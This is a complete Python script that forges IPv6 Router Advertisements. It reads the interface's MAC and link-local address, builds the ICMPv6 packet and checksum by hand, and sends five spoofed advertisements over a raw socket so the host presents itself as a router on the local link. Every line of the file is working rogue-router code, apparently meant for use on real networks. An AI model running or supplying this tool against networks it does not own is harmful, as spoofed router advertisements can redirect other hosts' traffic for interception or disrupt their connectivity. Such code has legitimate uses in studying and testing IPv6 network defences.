#!/usr/bin/env python3
"""Calls itself a router of its link, as root in a node can: forged router advertisements.

router.py INTERFACE SECONDS_OF_LIFE
"""

import ipaddress
import socket
import struct
import subprocess
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    interface, life = sys.argv[1], int(sys.argv[2])
    with open(f"/sys/class/net/{interface}/address") as file:
        mac = bytes.fromhex(file.read().strip().replace(":", ""))
    shown = subprocess.run(
        ["ip", "-6", "-o", "addr", "show", "dev", interface, "scope", "link"],
        check=True, capture_output=True, text=True,
    ).stdout
    source = ipaddress.IPv6Address(shown.split("inet6 ")[1].split("/")[0])
    to = ipaddress.IPv6Address("ff02::1")
    # Of low preference, so that where it is believed nothing else changes its way.
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x18, life, 0, 0) + struct.pack("!BB", 1, 1) + mac
    pseudo = source.packed + to.packed + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source.packed + to.packed
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    for _ in range(5):
        wire.send(b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + header + body)
        time.sleep(0.2)


main()
